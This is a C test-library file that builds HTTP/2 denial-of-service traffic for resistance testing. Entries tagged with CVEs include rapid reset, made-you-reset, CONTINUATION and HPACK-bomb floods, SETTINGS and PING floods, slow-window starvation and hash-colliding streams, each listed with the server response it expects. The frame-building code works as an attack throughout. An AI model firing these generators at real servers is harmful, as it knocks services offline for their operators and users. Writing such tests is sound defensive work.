/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/lib/attack_collide.h"
#include "tests/lib/attack_kind.h"

#define STREAMS 90u /* at once: below the 100 that servers commonly allow */
#define CALM    "GOAWAY ENHANCE_YOUR_CALM or PROTOCOL_ERROR, closed"

static uint32_t next_stream(struct attack_peer *p)
{
    p->stream += 2;
    return p->stream - 2;
}

/* Streams that nghttp2's map puts into one place, and a byte for each of them in turn: every frame walks by
 * all that are open. */
static void open_h2_colliding(struct attack_peer *p)
{
    uint32_t stream[STREAMS];
    collide_streams(stream, STREAMS);
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_grpc_head(&p->out, stream[i], WIRE_END_HEADERS);
}

static bool more_h2_colliding(struct attack_peer *p)
{
    static const uint8_t start[] = {0, 0, 1, 0, 0};
    static uint32_t stream[STREAMS];
    if (stream[0] == 0)
        collide_streams(stream, STREAMS);
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame(&p->out, WIRE_DATA, 0, stream[i],
                   p->blocks < 5 ? &start[p->blocks] : (const uint8_t *)"\n", 1);
    return true;
}

static void open_h2_head(struct attack_peer *p)
{
    wire_grpc_head(&p->out, next_stream(p), 0);
}

static bool more_continuation(struct attack_peer *p)
{
    struct wire field = {0};
    wire_field(&field, "x-small", "b");
    wire_frame(&p->out, WIRE_CONTINUATION, 0, p->stream - 2, field.p, field.n);
    wire_release(&field);
    return true;
}

static bool more_empty_continuation(struct attack_peer *p)
{
    wire_frame(&p->out, WIRE_CONTINUATION, 0, p->stream - 2, NULL, 0);
    return true;
}

static void open_h2_streams(struct attack_peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_grpc_head(&p->out, next_stream(p), WIRE_END_HEADERS);
}

/* One byte of each stream's gRPC prefix and message, in turn. */
static bool more_h2_bytes(struct attack_peer *p)
{
    static const uint8_t start[] = {0, 0, 1, 0, 0};
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame(&p->out, WIRE_DATA, 0, 1 + 2 * i,
                   p->blocks < 5 ? &start[p->blocks] : (const uint8_t *)"\n", 1);
    return true;
}

/* Refusals whose bodies there is no window for. */
static void open_h2_refused(struct attack_peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++) {
        uint32_t stream = next_stream(p);
        wire_http_head(&p->out, stream, WIRE_END_HEADERS);
        wire_frame(&p->out, WIRE_DATA, WIRE_END_STREAM, stream, "\xff\xff\xff", 3);
    }
}

static bool more_window_byte(struct attack_peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame32(&p->out, WIRE_WINDOW_UPDATE, 1 + 2 * i, 1);
    return true;
}

static bool more_window_updates(struct attack_peer *p)
{
    wire_frame32(&p->out, WIRE_WINDOW_UPDATE, 0, 1);
    return true;
}

static bool more_rapid_reset(struct attack_peer *p)
{
    uint32_t stream = next_stream(p);
    wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
    wire_frame32(&p->out, WIRE_RST_STREAM, stream, 8);
    return true;
}

static bool more_made_you_reset(struct attack_peer *p)
{
    uint32_t stream = next_stream(p);
    wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
    wire_frame32(&p->out, WIRE_WINDOW_UPDATE, stream, 0); /* RFC 9113 §6.9: the server must reset it */
    return true;
}

/* A request that is malformed (RFC 9113 §8.1.1): the server resets each. */
static bool more_malformed(struct attack_peer *p)
{
    struct wire block = {0};
    wire_field(&block, "Upper", "case");
    wire_frame(&p->out, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, next_stream(p), block.p, block.n);
    wire_release(&block);
    return true;
}

/* A field of 4000 bytes put into HPACK's table once and referred to by one byte each time. */
static bool more_hpack_bomb(struct attack_peer *p)
{
    struct wire block = {0};
    if (p->blocks == 0) {
        static const uint8_t add[] = {0x40, 1, 'x', 0x7f, 0xa1, 0x1e}; /* literal with indexing; 127 + 3873 */
        wire_put(&block, add, sizeof add);
        wire_fill(&block, 'a', 4000);
    }
    wire_fill(&block, 0x80 | 62, 12000); /* RFC 7541 §2.3.3: the first entry of the dynamic table */
    wire_frame(&p->out, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, next_stream(p), block.p, block.n);
    wire_release(&block);
    return true;
}

static bool more_settings(struct attack_peer *p)
{
    static const uint8_t setting[6] = {0, 4, 0, 1, 0, 0};
    wire_frame(&p->out, WIRE_SETTINGS, 0, 0, setting, sizeof setting);
    return true;
}

static bool more_ping(struct attack_peer *p)
{
    wire_frame(&p->out, WIRE_PING, 0, 0, "12345678", 8);
    return true;
}

static bool more_empty_data(struct attack_peer *p)
{
    wire_frame(&p->out, WIRE_DATA, 0, p->stream - 2, NULL, 0);
    return true;
}

static void open_h2_one(struct attack_peer *p)
{
    wire_grpc_head(&p->out, next_stream(p), WIRE_END_HEADERS);
}

static bool more_priority(struct attack_peer *p)
{
    uint8_t payload[5] = {0, 0, 0, (uint8_t)(p->blocks % 2 ? 3 : 5), (uint8_t)p->blocks};
    wire_frame(&p->out, WIRE_PRIORITY, 0, 1 + 2 * (uint32_t)(p->blocks % 1000 + 10), payload, sizeof payload);
    return true;
}

static bool more_unknown_frames(struct attack_peer *p)
{
    static const uint8_t nothing[16000];
    wire_frame(&p->out, (enum wire_frame)0x42, 0, 0, nothing, p->blocks % 2 ? sizeof nothing : 0);
    return true;
}

/* A request of gRPC that announces 64 MiB and never sends it: memory must follow what comes, not what is
 * said. */
static void open_h2_announced(struct attack_peer *p)
{
    static const uint8_t prefix[] = {0, 3, 0xff, 0xff, 0xff};
    for (uint32_t i = 0; i < STREAMS; i++) {
        uint32_t stream = next_stream(p);
        wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
        wire_frame(&p->out, WIRE_DATA, 0, stream, prefix, sizeof prefix);
    }
}

/* clang-format off */
const struct attack_kind attack_http2[] = {
    {"h2-slow-head", "a header block, a CONTINUATION each 100 ms", "RFC 9113 §10.5", "GOAWAY after 10 s or 32 continuations", open_h2_head, more_continuation, 100, ATTACK_H2},
    {"h2-slow-body", "90 streams, a byte on each every 100 ms", "CVE-2019-9511", "held; reset after request_ns", open_h2_streams, more_h2_bytes, 100, ATTACK_H2},
    {"h2-slow-window", "90 answers, a byte of window each 100 ms", "CVE-2019-9511 (Data Dribble), CVE-2019-9517", "held, then reset", open_h2_refused, more_window_byte, 100, ATTACK_H2 | ATTACK_STARVED},
    {"h2-no-window", "90 answers, and never a window", "CVE-2016-1546", "held, then reset", open_h2_refused, NULL, 0, ATTACK_H2 | ATTACK_STARVED},
    {"h2-announced", "90 messages of 64 MiB announced, none sent", "gRPC PROTOCOL-HTTP2", "held; memory follows what comes", open_h2_announced, NULL, 0, ATTACK_H2},
    {"h2-idle", "connects, preface, nothing more", "half-open connections", "held for the idle time", NULL, NULL, 0, ATTACK_H2 | ATTACK_QUIET},
    {"rapid-reset", "requests that are reset at once", "CVE-2023-44487", CALM, NULL, more_rapid_reset, 0, ATTACK_H2},
    {"made-you-reset", "requests that make the server reset them", "CVE-2025-8671", CALM, NULL, more_made_you_reset, 0, ATTACK_H2},
    {"malformed", "malformed requests, each to be reset", "CVE-2019-9514 (Reset Flood)", CALM, NULL, more_malformed, 0, ATTACK_H2},
    {"continuation", "a header block that never ends", "CVE-2024-27316, CVE-2023-45288", CALM, open_h2_head, more_continuation, 0, ATTACK_H2},
    {"empty-continuation", "CONTINUATION frames of no bytes", "CVE-2024-27316, CVE-2019-9516", CALM, open_h2_head, more_empty_continuation, 0, ATTACK_H2},
    {"hpack-bomb", "12000 references to a field of 4000 bytes", "CVE-2016-6581, RFC 7541 §7.3", CALM, NULL, more_hpack_bomb, 0, ATTACK_H2},
    {"settings", "SETTINGS frames", "CVE-2019-9515", "acknowledged while read; else closed", NULL, more_settings, 0, ATTACK_H2},
    {"settings-deaf", "SETTINGS frames, acknowledgements unread", "CVE-2019-9515", "closed", NULL, more_settings, 0, ATTACK_H2 | ATTACK_DEAF},
    {"ping", "PING frames", "CVE-2019-9512", "acknowledged while read; else closed", NULL, more_ping, 0, ATTACK_H2},
    {"ping-deaf", "PING frames, acknowledgements unread", "CVE-2019-9512", "closed", NULL, more_ping, 0, ATTACK_H2 | ATTACK_DEAF},
    {"empty-data", "DATA frames of no bytes", "CVE-2019-9518", CALM, open_h2_one, more_empty_data, 0, ATTACK_H2},
    {"priority", "PRIORITY frames for streams that are not there", "CVE-2019-9513 (Resource Loop)", "ignored or closed", NULL, more_priority, 0, ATTACK_H2},
    {"window-updates", "WINDOW_UPDATE frames of the connection", "RFC 9113 §10.5", "ignored or closed", NULL, more_window_updates, 0, ATTACK_H2},
    {"unknown-frames", "frames of a type nobody knows", "RFC 9113 §5.5, §10.5", "ignored or closed", NULL, more_unknown_frames, 0, ATTACK_H2},
    {"colliding-streams", "90 streams in one place of nghttp2's table, bytes for each", "hash flooding, CVE-2011-4815 and kin", "held, or reset when a message's 64 KiB are there", open_h2_colliding, more_h2_colliding, 0, ATTACK_H2},
};
/* clang-format on */

const size_t attack_http2_n = sizeof attack_http2 / sizeof *attack_http2;
